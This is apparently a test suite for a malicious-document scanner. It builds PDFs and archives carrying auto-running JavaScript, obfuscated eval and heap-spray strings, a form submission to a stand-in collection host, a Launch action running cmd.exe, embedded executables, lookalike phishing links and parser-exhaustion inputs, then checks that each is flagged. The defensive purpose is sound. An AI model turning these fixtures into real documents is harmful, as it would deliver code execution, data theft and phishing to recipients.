import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { strToU8, zipSync, zlibSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { joinBytes } from '../../join-bytes.ts'
import { analyseFile } from '../analyse-file.ts'

const latin = (text: string): Uint8Array => strToU8(text, true)
const samples: { readonly sealed: Readonly<Record<string, string>>; readonly lzw: string } = JSON.parse(
  readFileSync(new URL('./pdf-samples.json', import.meta.url), 'utf8'),
)
const bytesOf64 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'base64'))
const hexOf = (text: string, digits: number): string =>
  Array.from(text, (letter) => letter.charCodeAt(0).toString(16).padStart(digits, '0')).join('')
const octalOf = (text: string): string =>
  Array.from(text, (letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')
const RTF = '{\\rtf1{\\object{\\*\\objdata 0105000002000000080000004f4c45324c696e6b00}}}'

const PAGE = '<< /Type /Page >>'
const REACHES = 'app.launchURL("https://pay.example/x", true);'
const literal = (text: string): string => `(${text.replace(/[()\\]/g, '\\$&')})`
const script = (text: string): string => `<< /S /JavaScript /JS ${literal(text)} >>`
const STREAMED = '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>'
const opens = (action: string): string => `<< /Type /Catalog /OpenAction ${action} >>`
const field = (rest: string): string => `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) ${rest} >>`

/** Objects numbered from 1; a part with bytes is a stream. */
type Part = string | { readonly dictionary: string; readonly bytes: Uint8Array }

function pdfOf(...parts: readonly Part[]): Uint8Array {
  const written = parts.map((part, index) =>
    typeof part === 'string'
      ? latin(`${index + 1} 0 obj\n${part}\nendobj\n`)
      : joinBytes([
          latin(`${index + 1} 0 obj\n<< ${part.dictionary} /Length ${part.bytes.length} >>\nstream\n`),
          part.bytes,
          latin('\nendstream\nendobj\n'),
        ]),
  )
  return joinBytes([latin('%PDF-1.7\n'), ...written, latin('trailer << /Root 1 0 R >>\n%%EOF\n')])
}

const packed = (text: string, dictionary = ''): Part => ({
  dictionary: `${dictionary} /Filter /FlateDecode`,
  bytes: zlibSync(latin(text)),
})

/** As programs since PDF 1.5 write them: no object stands in the open. */
function inStream(...values: readonly string[]): Part {
  let at = 0
  const head = values.map((value, index) => {
    const place = `${index + 10} ${at} `
    at += value.length + 1
    return place
  })
  return packed(
    `${head.join('')}${values.join(' ')}`,
    `/Type /ObjStm /N ${values.length} /First ${head.join('').length}`,
  )
}

const look = (bytes: Uint8Array, name = 'form.pdf') =>
  analyseFile({ name, mediaType: null, size: bytes.length, sha256: null, bytes })
const scriptOf = (...parts: readonly Part[]): string | null => look(pdfOf(...parts)).script

const program = joinBytes([latin('MZ'), new Uint8Array(58), latin('d\0\0\0'), new Uint8Array(36), latin('PE\0\0')])
const attached = (name: string, bytes: Uint8Array): readonly Part[] => [
  '<< /Names << /EmbeddedFiles << /Names [(a) 2 0 R] >> >> >>',
  `<< /Type /Filespec /F ${literal(name)} /EF << /F 3 0 R >> >>`,
  { dictionary: '/Type /EmbeddedFile', bytes },
]

describe('a PDF that acts by itself', () => {
  it.each<readonly [string, readonly Part[]]>([
    ['as it opens', [opens(script(REACHES))]],
    ['by the names of the whole', ['<< /Names << /JavaScript << /Names [(a) 2 0 R] >> >> >>', script(REACHES)]],
    ['as a page opens', [`<< /Type /Page /AA << /O ${script(REACHES)} >> >>`]],
    ['as a field is calculated', [field(`/AA << /C ${script(REACHES)} >>`)]],
    ['after another action', [opens(`<< /S /GoTo /D [2 0 R /Fit] /Next ${script(REACHES)} >>`), PAGE]],
    ['by a number that a button names too', [opens('2 0 R'), script(REACHES), field('/A 2 0 R')]],
    ['under names with escapes', [opens(`<< /S /J#61v#61Script /J#53 ${literal(REACHES)} >>`)]],
    ['as UTF-16', [opens(`<< /S /JavaScript /JS <FEFF${hexOf(REACHES, 4)}> >>`)]],
    ['with letters as numbers', [opens(`<< /S /JavaScript /JS (${octalOf(REACHES)}) >>`)]],
    ['in a stream', [STREAMED, packed(REACHES)]],
    ['in a compressed stream of objects', [inStream(opens('11 0 R'), script(REACHES))]],
    [
      'in a stream that lies about its length',
      [{ dictionary: '/Type /X', bytes: latin(`\n9 0 obj ${opens(script(REACHES))} endobj\n`) }],
    ],
    ['in words put together', [opens(script('var e = "ev" + "al"; app[e](this.info.Title)'))]],
    ['by running what stands elsewhere', [opens(script('eval(this.getField("a").value)'))]],
    ['with letters by their numbers', [opens(script('var s = String.fromCharCode(97, 112, 112, 46, 108, 97, 117);'))]],
    ['by what breaks the reader', [opens(script('var s = unescape("%u9090%u9090%u9090%u9090");'))]],
    [
      'by the form in XML',
      [
        '<< /AcroForm << /XFA [(template) 2 0 R] >> >>',
        packed(
          '<event activity="initialize"><script>xfa.host.gotoURL(&quot;https://pay.example&quot;)</script></event>',
        ),
      ],
    ],
    ['to send the form', [opens('<< /S /SubmitForm /F << /FS /URL /F (https://collect.example) >> >>')]],
    ['to open a page', [opens('<< /S /URI /URI (https://pay.example) >>')]],
    ['to tell another machine', [opens('<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\share\\\\a.pdf) /D [0 /Fit] >>')]],
    ['to start a command', [opens('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')]],
    ['in the trailer', ['x', `<< >> trailer << /Root ${opens(script(REACHES))} >>`]],
    ['to open a document', [opens('<< /S /Launch /F (other.pdf) >>')]],
  ])('%s', (_, parts) => expect(scriptOf(...parts)).not.toBeNull())

  it.each([
    ['ASCIIHexDecode', latin(`${hexOf(REACHES, 2)}>`)],
    ['ASCII85Decode', latin('@;p0<CghI(@q\\k?9IM)uFEDJC3\\N.*@<jJ:G[YH.Ch58E+tOjYEckqB3r~>')],
    ['RunLengthDecode', joinBytes([Uint8Array.of(REACHES.length - 1), latin(REACHES), Uint8Array.of(128)])],
    // Made by qpdf's rules and read back by it, with codes of 9, 10 and 11 bits.
    ['LZWDecode', bytesOf64(samples.lzw)],
  ])('packed by %s', (filter, bytes) =>
    expect(scriptOf(STREAMED, { dictionary: `/Filter /${filter}`, bytes })).toBe('JavaScript: web'),
  )

  it('packed twice', () => {
    const hex = latin(`${Buffer.from(zlibSync(latin(REACHES))).toString('hex')}>`)
    const filters = { dictionary: '/Filter [/AHx /Fl]', bytes: hex }
    expect(scriptOf(STREAMED, filters)).toBe('JavaScript: web')
  })

  it('packed in a way that nobody reads here', () => {
    const jbig = { dictionary: '/Filter /JBIG2Decode', bytes: latin('x') }
    expect(scriptOf(STREAMED, jbig)).toBe('JavaScript: unread')
    expect(scriptOf({ ...jbig, dictionary: `/Type /ObjStm /N 1 /First 5 ${jbig.dictionary}` })).toBe('unread')
    // A picture packed so is a picture.
    expect(scriptOf({ ...jbig, dictionary: `/Subtype /Image ${jbig.dictionary}` })).toBeNull()
  })

  it('by what was written behind many megabytes', () => {
    const picture = { dictionary: '/Subtype /Image', bytes: new Uint8Array(4_500_000).fill(7) }
    expect(scriptOf(picture, opens(script(REACHES)))).toBe('JavaScript: web')
  })
})

describe('a PDF whose script', () => {
  it.each([
    ['is a form that calculates', field(`/AA << /C ${script('AFSimple_Calculate("SUM", new Array("a", "b"));')} >>`)],
    ['checks what is typed', field(`/AA << /K ${script('AFNumber_Keystroke(2, 0, 0, 0, "", true);')} >>`)],
    ['puts the date in', opens(script('this.getField("d").value = util.printd("yyyy-mm-dd", new Date());'))],
    ['prints', opens(script('this.print({ bUI: true });'))],
    ['opens a page for who presses for it', field(`/A ${script(REACHES)}`)],
    ['opens help for who clicks', field(`/AA << /U ${script(REACHES)} >>`)],
    [
      'sends the form for who presses for it',
      field(`/A ${script('this.submitForm({ cURL: "mailto:a@acme.example" });')}`),
    ],
    ['is a link', '<< /Subtype /Link /A << /S /URI /URI (https://acme.example) >> >>'],
    ['is a link of old', '<< /Subtype /Link /PA << /S /URI /URI (https://acme.example) >> >>'],
    ['is a button that sends', field('/A << /S /SubmitForm /F << /FS /URL /F (https://acme.example) >> >>')],
    ['leads to another volume', '<< /Subtype /Link /A << /S /Launch /F (volume-2.pdf) >> >>'],
    ['begins on a page', opens('[2 0 R /Fit]')],
  ])('%s waits for nobody', (_, part) => expect(scriptOf(part, PAGE)).toBeNull())

  it('stands under a number that only links name waits for nobody', () =>
    expect(scriptOf('<< /Subtype /Link /A 2 0 R >>', '<< /S /URI /URI (https://acme.example) >>')).toBeNull())

  it.each([
    ['starts a program', '<< /Subtype /Link /A << /S /Launch /F (update.exe) >> >>'],
    ['runs its own words', field(`/A ${script('eval(this.info.Title)')}`)],
    ['saves and opens what was put in', field(`/A ${script('this.exportDataObject({ cName: "a", nLaunch: 2 });')}`)],
  ])('%s is seen though somebody has to press', (_, part) => expect(scriptOf(part)).not.toBeNull())

  it('offers a newer reader as forms of Adobe do waits for nobody, and with any other address does not', () => {
    const offer = (address: string): readonly Part[] => [
      opens(script('this.getURL(ADBE.Reader_Value_New_Version_URL + ADBE.SYSINFO, false);')),
      `<< /Names << /JavaScript << /Names [(a) ${script(`ADBE.Reader_Value_New_Version_URL = ${address};`)}] >> >> >>`,
    ]
    expect(scriptOf(...offer('"http://cgi.adobe.com/special/acrobat/update"'))).toBeNull()
    expect(scriptOf(...offer('"http://cgi.adobe.com.example/update"'))).toBe('JavaScript: web')
    expect(scriptOf(...offer('this.info.Title'))).toBe('JavaScript: web')
    const [calls = ''] = offer('')
    expect(scriptOf(calls)).toBe('JavaScript: web')
  })

  it('is a form in XML that opens a page for who clicks waits for nobody', () => {
    const form = packed('<event activity="click"><script>xfa.host.gotoURL("https://acme.example")</script></event>')
    expect(scriptOf('<< /AcroForm << /XFA 2 0 R >> >>', form)).toBeNull()
  })

  it('is letters that happen to stand in a picture waits for nobody', () => {
    const picture = { dictionary: '/Subtype /Image', bytes: latin('x/JS(y/JS z /JavaScript') }
    expect(scriptOf(picture)).toBeNull()
  })
})

describe('a PDF that was sealed', () => {
  it.each(Object.entries(samples.sealed).filter(([name]) => !name.startsWith('needs')))(
    'with an empty password is read: %s',
    (_, sealed) => expect(look(bytesOf64(sealed))).toMatchObject({ script: 'JavaScript: web', archive: null }),
  )
  it.each(Object.entries(samples.sealed).filter(([name]) => name.startsWith('needs')))('%s', (_, sealed) =>
    expect(look(bytesOf64(sealed))).toMatchObject({ script: null, archive: { encrypted: true } }),
  )
})

describe('files that were put in a PDF', () => {
  const other = pdfOf(opens(script(REACHES)))
  it('are looked into', () => {
    expect(scriptOf(...attached('update.exe', latin('x')))).toBe('update.exe')
    expect(scriptOf(...attached('letter.dat', program))).toBe('letter.dat')
    expect(scriptOf(...attached('other.pdf', other))).toBe('JavaScript: web')
    const letter = zipSync({ '[Content_Types].xml': latin('x'), 'word/vbaProject.bin': latin('x') })
    expect(look(pdfOf(...attached('letter.docm', letter)))).toMatchObject({ macro: true, macroReach: 'unread' })
    const damaged = latin('7z\u00bc\u00af\u0027\u001c')
    expect(look(pdfOf(...attached('all.7z', damaged))).archive).toMatchObject({ closed: '7z', encrypted: false })
  })
  it('wait for nobody where they are data', () =>
    expect(scriptOf(...attached('factur-x.xml', latin('<invoice/>')))).toBeNull())
  it('are unpacked behind scripts, which they leave nothing for', () => {
    const large = packed('x'.repeat(7_900_000), '/Type /EmbeddedFile')
    const specified = Array.from({ length: 6 }, (_, at) => `<< /F (${at}.csv) /EF << /F ${at + 8} 0 R >> >>`)
    const parts = [
      ...specified,
      opens('<< /S /JavaScript /JS 14 0 R >>'),
      ...specified.map(() => large),
      packed('this.print()'),
    ]
    expect(scriptOf(...parts)).toBeNull()
  })
  it('end somewhere', () => {
    let nested = pdfOf(opens(script(REACHES)))
    for (let depth = 0; depth < 8; depth++) nested = pdfOf(...attached('inner.pdf', nested))
    expect(look(nested).archive).toMatchObject({ bomb: 'depth' })
  })
  it('and a PDF in an archive, are read as it alone is', () => {
    expect(look(zipSync({ 'a.pdf': other }), 'a.zip').script).toBe('JavaScript: web')
    expect(look(zipSync({ 'a.rtf': latin(RTF) }), 'a.zip').script).toBe(look(latin(RTF), 'a.rtf').script)
  })
})

describe('where a document leads', () => {
  const link = (target: string): string => `<< /Subtype /Link /A << /S /URI /URI ${literal(target)} >> >>`
  const pdf = pdfOf(link('https://paypa1.com/login?account=7'), link('http://paypa1.com@evil.example/'), link('#page'))
  const hosts = ['https://paypa1.com/', 'http://paypa1.com@evil.example/']
  it('is told by its hosts, and by nothing that they were asked for', () => expect(look(pdf).links).toEqual(hosts))
  it('is told of a document in an archive or in another document', () => {
    expect(look(zipSync({ 'a.pdf': pdf }), 'a.zip').links).toEqual(hosts)
    expect(look(pdfOf(...attached('inner.pdf', pdf))).links).toEqual(hosts)
  })
  it('is told where objects are compressed', () =>
    expect(look(pdfOf(inStream(link('https://paypa1.com/a')))).links).toEqual(['https://paypa1.com/']))
  it('is told of links in letters, not of where their parts lie', () => {
    const relations = [
      '<Relationship Type="http://schemas.openxmlformats.org/x/relationships/hyperlink" Target="https://paypa1.com/a?b=1&amp;c=2" TargetMode="External"/>',
      '<Relationship Type="http://schemas.openxmlformats.org/x/relationships/image" Target="https://pictures.example/a.png"/>',
    ].join('')
    const letter = { 'word/document.xml': latin('<x/>'), 'word/_rels/document.xml.rels': latin(relations) }
    expect(look(zipSync(letter), 'a.docx').links).toEqual(['https://paypa1.com/'])
  })
  it('is told of a few hundred hosts, however many there are', () => {
    const many = Array.from({ length: 400 }, (_, at) => link(`https://h${at}.example/`))
    expect(look(pdfOf(...many)).links).toHaveLength(256)
  })
})

describe('a PDF made to be long in reading', () => {
  const most = 300_000
  const over = (text: string): Uint8Array => latin(`%PDF-1.7\n${text.repeat(most / text.length)}`)
  it.each([
    ['texts that end nowhere', over('1 0 obj (')],
    ['lists in one another', over('1 0 obj [ ')],
    ['dictionaries in one another', over('1 0 obj <</A ')],
    ['objects of one number', over('1 0 obj<</JS 1 0 R>>')],
    ['streams that end nowhere', over('1 0 obj<</Type/ObjStm/N 9/First 9/Filter/FlateDecode>>stream\n')],
    [
      'places that are all one',
      pdfOf(packed(`${'1 0 '.repeat(50_000)}(${'x'.repeat(900_000)}`, '/Type /ObjStm /N 50000 /First 200000')),
    ],
  ])('is given up: %s', (_, bytes) => expect(look(bytes).script).toBe('unread'))

  it('never throws, and is never taken for what it is not', () => {
    const whole = [
      pdfOf(opens(script('x()'))),
      pdfOf(inStream(opens('11 0 R'), script('x()'))),
      ...Object.values(samples.sealed).map(bytesOf64),
    ]
    fc.assert(
      fc.property(
        fc.constantFrom(...whole),
        fc.array(fc.tuple(fc.nat(2_000), fc.nat(255)), { maxLength: 40 }),
        (from, changes) => {
          const bytes = from.slice()
          for (const [at, byte] of changes) if (at < bytes.length) bytes[at] = byte
          look(bytes)
        },
      ),
      { numRuns: 120 },
    )
  })
})
